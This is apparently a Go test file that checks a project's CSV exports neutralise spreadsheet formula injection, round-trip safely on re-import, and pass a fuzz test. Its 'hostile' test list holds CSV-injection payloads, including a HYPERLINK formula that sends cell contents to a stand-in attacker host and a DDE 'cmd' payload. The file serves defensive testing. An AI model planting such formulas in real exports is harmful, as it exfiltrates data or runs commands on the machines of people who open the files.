package interchange_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"passerelle"
	"passerelle/interchange"
	"passerelle/store"
)

// safeCell is what a spreadsheet cannot run: no formula start, unless a plain number.
var plainNumber = regexp.MustCompile(`^-?[0-9.]+$`)

func checkCSVCells(t *testing.T, name string, data []byte) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for i, r := range recs {
		for j, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !plainNumber.MatchString(c) {
				t.Errorf("%s record %d column %d: %q would run as a formula", name, i+1, j+1, c)
			}
		}
	}
}

var hostile = []string{"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tTab", "\r=CR", "'=quoted already", "''@twice"}

// TestCSVExportsNeutraliseFormulas writes hostile text into every CSV the product writes.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	var orgs []*passerelle.Organization
	for _, h := range hostile {
		orgs = append(orgs, &passerelle.Organization{ID: 1, Name: h, City: h, Description: h, Acronyms: []string{h}, Kind: passerelle.KindOther, Visibility: passerelle.VisibilityShared})
	}
	lat := -12.5
	orgs = append(orgs, &passerelle.Organization{ID: 2, Name: "-12.5", Lat: &lat, Lng: &lat, Kind: passerelle.KindOther})
	var buf bytes.Buffer
	ow, err := interchange.NewOrganizationWriter(&buf, "csv")
	if err != nil {
		t.Fatal(err)
	}
	if err := ow.Write(orgs); err != nil {
		t.Fatal(err)
	}
	if err := ow.Close(); err != nil {
		t.Fatal(err)
	}
	checkCSVCells(t, "organizations.csv", buf.Bytes())
	if !strings.Contains(buf.String(), "-12.5,-12.5") {
		t.Errorf("a plain negative number was changed:\n%s", buf.String())
	}

	dir := filepath.Join(t.TempDir(), "csv")
	aw, err := interchange.NewAgreementWriter(&bytes.Buffer{}, "csv", dir)
	if err != nil {
		t.Fatal(err)
	}
	if err := aw.Write(hostileAgreements()); err != nil {
		t.Fatal(err)
	}
	if err := aw.Close(); err != nil {
		t.Fatal(err)
	}
	for _, s := range interchange.AgreementSheets {
		b, err := os.ReadFile(filepath.Join(dir, s+".csv"))
		if err != nil {
			t.Fatal(err)
		}
		checkCSVCells(t, s+".csv", b)
	}
}

func hostileAgreements() []*passerelle.Agreement {
	var as []*passerelle.Agreement
	for _, h := range hostile {
		as = append(as, &passerelle.Agreement{Title: strings.TrimSpace(h) + " title", Description: h, Context: h, Notes: strings.TrimSpace(h),
			Partners: []passerelle.AgreementPartner{{Name: strings.TrimSpace(h), Side: "foreign", Country: "AR"}},
			Funding:  []passerelle.FundingLine{{Funder: strings.TrimSpace(h), AmountCents: 1250}},
			Contacts: []passerelle.AgreementContact{{LastName: strings.TrimSpace(h), Role: strings.TrimSpace(h)}},
			Phases:   []passerelle.Phase{{Title: strings.TrimSpace(h), Actions: []passerelle.Action{{Title: strings.TrimSpace(h), Outcome: strings.TrimSpace(h)}}}}})
	}
	return as
}

// TestCSVRoundTripOfFormulaText exports agreements whose text starts like a formula and
// imports the files back: the text comes back as it was, and a second import of the same
// files changes nothing.
func TestCSVRoundTripOfFormulaText(t *testing.T) {
	ctx := context.Background()
	db, err := store.Open(ctx, "", t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	src := newWorkspace(t, ctx, db, "src")
	svc := store.NewAgreementService(db)
	// Through the JSON importer, which creates the partners' organisations.
	b, err := json.Marshal(hostileAgreements())
	if err != nil {
		t.Fatal(err)
	}
	if res, err := svc.ImportAgreements(src, interchange.ReadAgreementsJSON(bytes.NewReader(b)), false); err != nil {
		t.Fatalf("%v %+v", err, res)
	}
	want := exportJSON(t, src, db)
	if !strings.Contains(want, `"title": "=HYPERLINK`) {
		t.Fatalf("the records did not keep their text:\n%s", want)
	}
	dir := filepath.Join(t.TempDir(), "csv")
	aw, err := interchange.NewAgreementWriter(&bytes.Buffer{}, "csv", dir)
	if err != nil {
		t.Fatal(err)
	}
	all, _, err := svc.FindAgreements(src, passerelle.AgreementFilter{Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	if err := aw.Write(all); err != nil {
		t.Fatal(err)
	}
	if err := aw.Close(); err != nil {
		t.Fatal(err)
	}
	dst := newWorkspace(t, ctx, db, "dst")
	for round := 1; round <= 2; round++ {
		items, err := interchange.OpenAgreementFile(dir, "")
		if err != nil {
			t.Fatal(err)
		}
		res, err := svc.ImportAgreements(dst, items, false)
		if err != nil {
			t.Fatalf("import %d: %v %+v", round, err, res)
		}
		if round == 2 && res.Unchanged != len(all) {
			t.Errorf("second import changed something: %+v", res)
		}
	}
	if got := exportJSON(t, dst, db); got != want {
		t.Errorf("round trip differs:\n%s", firstDiff(want, got))
	}
}

func TestNeutralizeCell(t *testing.T) {
	for _, tc := range []struct{ in, out string }{
		{"=1+2", "'=1+2"}, {"+33 1 23", "'+33 1 23"}, {"-", "'-"}, {"@x", "'@x"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"-12.5", "-12.5"}, {"2013", "2013"}, {"'=x", "''=x"}, {"'x", "'x"}, {"'", "'"}, {"", ""}, {"a=b", "a=b"},
	} {
		if got := interchange.NeutralizeCell(tc.in); got != tc.out {
			t.Errorf("NeutralizeCell(%q) = %q, want %q", tc.in, got, tc.out)
		}
		if got := interchange.RestoreCell(tc.out); got != tc.in {
			t.Errorf("RestoreCell(%q) = %q, want %q", tc.out, got, tc.in)
		}
	}
}

func FuzzNeutralizeCell(f *testing.F) {
	for _, h := range hostile {
		f.Add(h)
	}
	f.Add("-12.5")
	f.Fuzz(func(t *testing.T, s string) {
		n := interchange.NeutralizeCell(s)
		if interchange.RestoreCell(n) != s {
			t.Fatalf("%q -> %q -> %q", s, n, interchange.RestoreCell(n))
		}
		if n != "" && strings.ContainsRune("=+-@\t\r", rune(n[0])) && !plainNumber.MatchString(n) {
			t.Fatalf("%q neutralised as %q", s, n)
		}
	})
}
